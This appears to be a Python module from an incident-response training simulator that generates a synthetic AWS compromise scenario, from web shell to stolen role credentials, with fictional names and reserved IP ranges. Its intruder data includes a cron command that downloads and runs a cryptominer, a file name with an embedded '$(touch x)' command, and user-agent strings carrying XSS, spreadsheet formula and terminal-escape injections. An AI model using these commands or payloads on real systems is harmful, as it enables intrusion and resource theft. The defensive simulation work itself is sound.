"""Who, what, where and when of the compromise: every name, address and time, from the seed and `at` alone.

Outside parties have addresses from the documentation and benchmark ranges only (RFC 5737, RFC 2544), the inside has
private ones; no real organisation is named.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random

from irkit.sim.scenarios.web_to_role_theft import ids

ORGANISATIONS = (
    "harbor",
    "juniper",
    "quarry",
    "lantern",
    "orchard",
    "saffron",
    "tundra",
    "walnut",
    "cobalt",
    "meadow",
)
GIVEN = (
    "anika",
    "bruno",
    "carla",
    "dmitri",
    "elena",
    "farid",
    "greta",
    "hugo",
    "ines",
    "jonas",
    "kira",
    "luca",
)
FAMILY = ("moreno", "rao", "lindqvist", "okafor", "petrov", "tanaka", "weber", "silva", "novak", "haddad")
PURPOSES = ("reporting", "backup", "billing", "mailer", "metrics", "search", "ledger", "archive")
DISGUISES = ("kworkerds", "dbusd-x", "udevmon", "netctld", "rsyncdx", "irqtune", "cpufreqd", "lvmpoll")
SHELLS = ("thumb", "cache", "lang", "resize", "sitemap", "captcha", "avatar", "font")
POOL_PORTS = (3333, 4444, 5555, 7777, 9999, 14444)

WEB_PORT = 80
OFFICE = ("192.0.2.10", "192.0.2.11")
OTHER_REGIONS = ("us-west-2", "eu-west-1")
SDK_AGENT = "Boto3/1.35.20 md/Botocore#1.35.20 ua/2.0 os/linux#6.1.109 md/arch#x86_64 lang/python#3.9.16"


@dataclass(frozen=True, slots=True, kw_only=True)
class Role:
    """An IAM role as logs name it."""

    name: str
    unique_id: str
    arn: str


@dataclass(frozen=True, slots=True, kw_only=True)
class User:
    """An IAM user; `key` is the access key that belongs to its owner."""

    name: str
    unique_id: str
    arn: str
    key: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Host:
    """One web server of the fleet."""

    instance: str
    hostname: str
    private_ip: str
    second_ip: str
    public_ip: str
    eni: str
    second_eni: str
    root_volume: str
    data_volume: str
    subnet: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Estate:
    """The account before anyone broke in."""

    organisation: str
    account: str
    forensics_account: str
    region: str
    vpc: str
    subnets: tuple[str, str]
    web_group: str
    admin_group: str
    flow_log: str
    suspect: Host
    sibling: Host
    balancer_ips: tuple[str, str]
    balancer_enis: tuple[str, str]
    image: str
    launch_key: str
    launch_key_blob: str
    web_role: Role
    export_role: Role
    ci_role: Role
    backup_role: Role
    job_role: Role
    admin_role: Role
    users: tuple[User, ...]
    trail: str
    trail_bucket: str
    flow_bucket: str
    assets_bucket: str
    export_bucket: str
    artifact_bucket: str
    evidence_bucket: str
    snapshot: str
    other_snapshots: tuple[str, ...]
    database_volume: str
    secret: str
    topic: str
    fleet: str
    endpoints: tuple[tuple[str, str], ...]
    """VPC endpoints as (service, id): S3 first, then the three that Systems Manager needs."""
    endpoint_group: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Intruder:
    """What the intruder brought, took and left."""

    web_ip: str
    api_ip: str
    later_ip: str
    exfil_ip: str
    pool_ip: str
    pool_port: int
    account: str
    stolen_key: str
    export_key: str
    export_session: str
    planted_user: User
    planted_key: str
    planted_secret: str
    shell_path: str
    shell_url: str
    shell_password: str
    miner_dir: str
    miner: str
    wallet: str
    cron_path: str
    cron_command: str
    ssh_blob: str
    ssh_fingerprint: str
    ssh_comment: str
    archive_path: str
    hostile_file: str
    api_agent: str
    hostile_agents: tuple[str, ...]
    export_agent: str
    later_agent: str
    objects: int


@dataclass(frozen=True, slots=True, kw_only=True)
class Times:
    """When things happened; everything is before `at`, in UTC, on whole seconds."""

    at: datetime
    begin: datetime
    probe: datetime
    upload: datetime
    entry: datetime
    imds: datetime
    key_issued: datetime
    miner: datetime
    cron: datetime
    ssh: datetime
    exfil: datetime
    first_use: datetime
    create_key: datetime
    assume: datetime
    read: datetime
    share: datetime
    stop_trail: datetime
    last_use: datetime
    later: datetime


@dataclass(frozen=True, slots=True, kw_only=True)
class Story:
    """One compromise, complete; two stories of the same seed and `at` are equal."""

    seed: int
    estate: Estate
    intruder: Intruder
    times: Times

    def rng(self, part: str) -> Random:
        """A generator for one part of the world, so that no part's draws shift another's."""
        return Random(f"web-to-role-theft/{self.seed}/{part}")


def tell(
    *,
    seed: int,
    at: datetime,
    account: str = "111122223333",
    forensics_account: str = "444455556666",
    region: str = "us-east-1",
) -> Story:
    """The story of `seed`, ending at `at` (aware; taken in UTC, to the second)."""
    from datetime import UTC

    if at.tzinfo is None:
        raise ValueError("`at` must be an aware datetime")
    rng = Random(f"web-to-role-theft/{seed}/story")
    estate = _estate(rng, account, forensics_account, region)
    intruder = _intruder(rng, seed, estate)
    return Story(seed=seed, estate=estate, intruder=intruder, times=_times(rng, at.astimezone(UTC)))


def _role(rng: Random, account: str, name: str, path: str = "") -> Role:
    return Role(
        name=name, unique_id=ids.unique_id(rng, "AROA"), arn=f"arn:aws:iam::{account}:role/{path}{name}"
    )


def _user(rng: Random, account: str, name: str) -> User:
    return User(
        name=name,
        unique_id=ids.unique_id(rng, "AIDA"),
        arn=f"arn:aws:iam::{account}:user/{name}",
        key=ids.access_key(rng, "AKIA", account),
    )


def _host(rng: Random, subnet: str, third: int, public_ip: str) -> Host:
    first, second = rng.sample(range(20, 200), 2)
    private_ip = f"10.20.{third}.{first}"
    return Host(
        instance=ids.resource_id(rng, "i"),
        hostname=f"ip-10-20-{third}-{first}.ec2.internal",
        private_ip=private_ip,
        second_ip=f"10.20.{third}.{second}",
        public_ip=public_ip,
        eni=ids.resource_id(rng, "eni"),
        second_eni=ids.resource_id(rng, "eni"),
        root_volume=ids.resource_id(rng, "vol"),
        data_volume=ids.resource_id(rng, "vol"),
        subnet=subnet,
    )


def _estate(rng: Random, account: str, forensics_account: str, region: str) -> Estate:
    org = rng.choice(ORGANISATIONS)
    mark = f"{rng.getrandbits(24):06x}"
    subnets = (ids.resource_id(rng, "subnet"), ids.resource_id(rng, "subnet"))
    people = rng.sample([f"{g}.{f}" for g in GIVEN for f in FAMILY], 4)
    services = rng.sample(PURPOSES, 3)
    names = [*people, *(f"svc-{name}-{rng.getrandbits(8):02x}" for name in services)]
    public = rng.sample(range(10, 250), 2)
    return Estate(
        organisation=org,
        account=account,
        forensics_account=forensics_account,
        region=region,
        vpc=ids.resource_id(rng, "vpc"),
        subnets=subnets,
        web_group=ids.resource_id(rng, "sg"),
        admin_group=ids.resource_id(rng, "sg"),
        flow_log=ids.resource_id(rng, "fl"),
        suspect=_host(rng, subnets[0], 1, f"198.18.100.{public[0]}"),
        sibling=_host(rng, subnets[1], 2, f"198.18.100.{public[1]}"),
        balancer_ips=("10.20.1.250", "10.20.2.250"),
        balancer_enis=(ids.resource_id(rng, "eni"), ids.resource_id(rng, "eni")),
        image=ids.resource_id(rng, "ami"),
        launch_key=f"{org}-fleet",
        launch_key_blob=ids.ssh_public_key(rng)[0],
        web_role=_role(rng, account, f"{org}-web-role"),
        export_role=_role(rng, account, f"{org}-data-export"),
        ci_role=_role(rng, account, f"{org}-ci-deploy"),
        backup_role=_role(rng, account, f"{org}-backup"),
        job_role=_role(rng, account, f"{org}-nightly-jobs"),
        admin_role=_role(
            rng,
            account,
            f"AWSReservedSSO_AdministratorAccess_{rng.getrandbits(64):016x}",
            "aws-reserved/sso.amazonaws.com/",
        ),
        users=tuple(_user(rng, account, name) for name in names),
        trail=f"{org}-trail",
        trail_bucket=f"{org}-cloudtrail-{mark}",
        flow_bucket=f"{org}-flowlogs-{mark}",
        assets_bucket=f"{org}-web-assets-{mark}",
        export_bucket=f"{org}-customer-exports-{rng.getrandbits(24):06x}",
        artifact_bucket=f"{org}-artifacts-{mark}",
        evidence_bucket=f"{org}-evidence-{mark}",
        snapshot=ids.resource_id(rng, "snap"),
        other_snapshots=tuple(ids.resource_id(rng, "snap") for _ in range(3)),
        database_volume=ids.resource_id(rng, "vol"),
        secret=f"{org}/web/database",
        topic=f"{org}-incident-response",
        fleet=f"{org}-web",
        endpoints=tuple(
            (name, ids.resource_id(rng, "vpce")) for name in ("s3", "ssm", "ssmmessages", "ec2messages")
        ),
        endpoint_group=ids.resource_id(rng, "sg"),
    )


def _intruder(rng: Random, seed: int, estate: Estate) -> Intruder:
    account = estate.account
    shell = f"{rng.choice(SHELLS)}-{rng.getrandbits(20):05x}.php"
    disguise = f"{rng.choice(DISGUISES)}{rng.randrange(10, 99)}"
    miner_dir = f"/var/tmp/.{rng.choice(('font', 'ICE', 'cache', 'X11'))}-{rng.getrandbits(24):06x}"  # noqa: S108  # nosec B108 - a path in the story
    pool_ip = f"198.19.{ids.octet(seed, 7)}.{rng.randrange(2, 250)}"
    pool_port = rng.choice(POOL_PORTS)
    wallet = "4" + ids.token(rng, 40)
    blob, fingerprint = ids.ssh_public_key(rng)
    miner = f"{miner_dir}/{disguise}"
    return Intruder(
        web_ip=f"203.0.113.{ids.octet(seed, 1)}",
        api_ip=f"198.51.100.{ids.octet(seed, 2)}",
        later_ip=f"192.0.2.{ids.octet(seed, 3)}",
        exfil_ip=f"198.18.{128 + ids.octet(seed, 4) % 120}.{ids.octet(seed, 5)}",
        pool_ip=pool_ip,
        pool_port=pool_port,
        account=f"{rng.randrange(200_000_000_000, 999_000_000_000)}",
        stolen_key=ids.access_key(rng, "ASIA", account),
        export_key=ids.access_key(rng, "ASIA", account),
        export_session=f"export-{rng.randrange(10**9, 10**10)}",
        planted_user=estate.users[rng.randrange(4, len(estate.users))],
        planted_key=ids.access_key(rng, "AKIA", account),
        planted_secret=ids.secret_key(rng),
        shell_path=f"/var/www/html/uploads/{shell}",
        shell_url=f"/uploads/{shell}",
        shell_password=ids.token(rng, 10),
        miner_dir=miner_dir,
        miner=miner,
        wallet=wallet,
        cron_path=f"/etc/cron.d/{rng.choice(('0sysupdate', 'logrotate-x', 'man-db-sync', 'raid-check2'))}",
        cron_command=f"curl -fsS http://{pool_ip}/{disguise} -o {miner} && chmod 700 {miner} && "
        f"{miner} -o stratum+tcp://{pool_ip}:{pool_port} -u {wallet} --background",
        ssh_blob=blob,
        ssh_fingerprint=fingerprint,
        ssh_comment=f"{ids.token(rng, 6).lower()}@{rng.choice(('kali', 'parrot', 'vps'))}-{rng.getrandbits(16):04x}",
        archive_path=f"/var/tmp/.{rng.getrandbits(24):06x}.tgz",  # noqa: S108  # nosec B108 - a path in the story
        hostile_file=f"/var/www/html/uploads/photo {rng.getrandbits(16):04x}\n$(touch x) 'q\" <b>.jpg",
        api_agent="aws-cli/2.17.32 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.11-amd64 md/arch#x86_64 lang/python#3.11.9",
        hostile_agents=(
            f"<script>alert('{rng.getrandbits(16):04x}')</script>",
            "=cmd|' /C calc'!A0",
            "\x1b[2J\x1b[31mBoto3/1.34\nroot: all clear\x1b[0m",
            "Boto3/1.34 \"quoted\" 'single' | pipe ` ${IFS}",
        ),
        export_agent=f"[aws-cli/2.17.32 s3.sync {rng.getrandbits(16):04x}]",
        later_agent="Boto3/1.34.131 md/Botocore#1.34.131 ua/2.0 os/windows#10 md/arch#amd64 lang/python#3.12.4",
        objects=rng.randrange(160, 220),
    )


def _times(rng: Random, at: datetime) -> Times:
    at = at.replace(microsecond=0)

    def after(start: datetime, low: float, high: float) -> datetime:
        return start + timedelta(seconds=int(rng.uniform(low * 60, high * 60)))

    probe = at - timedelta(seconds=rng.randrange(29 * 3600, 43 * 3600))
    upload = after(probe, 9, 16)
    entry = after(upload, 0.5, 1.5)
    imds = after(entry, 5, 9)
    first_use = after(imds, 14, 25)
    create_key = after(first_use, 13, 17)
    assume = after(create_key, 5, 9)
    read = after(assume, 1, 3)
    share = after(read, 30, 40)
    stop_trail = after(share, 6, 10)
    miner = after(imds, 4, 8)
    cron = after(miner, 1, 3)
    return Times(
        at=at,
        begin=at - timedelta(hours=72),
        probe=probe,
        upload=upload,
        entry=entry,
        imds=imds,
        # instance credentials live about six hours; this set was fetched by the agent shortly before the break-in
        key_issued=entry - timedelta(seconds=rng.randrange(10 * 60, 40 * 60)),
        miner=miner,
        cron=cron,
        ssh=after(cron, 1, 4),
        exfil=after(stop_trail, 8, 14),
        first_use=first_use,
        create_key=create_key,
        assume=assume,
        read=read,
        share=share,
        stop_trail=stop_trail,
        last_use=after(stop_trail, 45, 70),
        later=after(stop_trail, 3.2 * 60, 5 * 60),
    )
